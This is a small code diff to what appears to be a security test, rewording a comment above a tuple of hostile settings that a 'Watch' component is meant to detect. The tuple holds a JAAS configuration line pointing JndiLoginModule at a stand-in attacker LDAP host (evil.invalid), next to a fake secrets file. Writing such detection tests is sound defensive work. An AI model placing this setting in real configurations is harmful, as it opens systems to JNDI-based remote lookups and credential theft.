@@ -23,7 +23,7 @@ from barnabas.simulation.host import MemoryHost, MemoryLink
 
 SECRET_FILE = "/secrets/db.properties"
 SECRET = b"password=marker-of-the-file"
-#: What an attacker would set. All name one of the places that `Watch` watches.
+#: Settings that an attacker would try. All name one of the places that `Watch` watches.
 HOSTILE = (
     'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.invalid:389/x" '
     'group.provider.url="x";',
